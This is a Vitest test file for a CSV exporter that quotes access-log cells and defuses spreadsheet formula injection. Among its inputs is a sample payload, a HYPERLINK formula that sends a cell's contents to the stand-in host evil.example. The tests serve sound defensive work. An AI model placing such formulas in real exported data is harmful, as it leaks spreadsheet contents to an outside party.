import { describe, expect, it } from 'vitest';
import { csvCell, csvRow } from './access-log.csv.js';

describe('csvCell', () => {
  it.each([
    ['plain', '"plain"'],
    ['', '""'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['line\nbreak', '"line\nbreak"'],
    [' padded ', '" padded "'],
  ])('quotes %j, every time', (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });

  it.each([
    ['=1+2', `"'=1+2"`],
    ['+SUM(A1:A2)', `"'+SUM(A1:A2)"`],
    ['-2+3', `"'-2+3"`],
    ['@cmd', `"'@cmd"`],
    // The tab and CR some programs strip first, and the formula after them.
    ['\t=1', `"'\t'=1"`],
    ['\r=1', `"'\r'=1"`],
    ['  =1', `"  '=1"`],
    ['=HYPERLINK("http://evil.example/?"&A1,"x")', `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`],
  ])('defuses the formula %j at the start of the cell', (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });

  it.each([
    ['Mozilla;=HYPERLINK("http://x")', `"Mozilla;'=HYPERLINK(""http://x"")"`],
    ['Mozilla\t=1+2', `"Mozilla\t'=1+2"`],
    ['Mozilla|=1+2', `"Mozilla|'=1+2"`],
    ['Mozilla, +1', `"Mozilla, '+1"`],
    ['a\n@SUM(1)', `"a\n'@SUM(1)"`],
    ['x; -cmd', `"x; '-cmd"`],
  ])('defuses the formula after a separator a spreadsheet may split on: %j', (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });

  it('leaves numbers, null and harmless text readable', () => {
    expect(csvCell(1234)).toBe('"1234"');
    expect(csvCell(-5)).toBe('"-5"');
    expect(csvCell(null)).toBe('""');
    expect(csvCell(undefined)).toBe('""');
    expect(csvCell('Mozilla/5.0 (X11; Linux x86_64)')).toBe('"Mozilla/5.0 (X11; Linux x86_64)"');
    expect(csvCell('a=b')).toBe('"a=b"');
  });

  it('joins a row with commas and ends it with CRLF', () => {
    expect(csvRow(['a', null, 3, '=x'])).toBe(`"a","","3","'=x"\r\n`);
  });
});
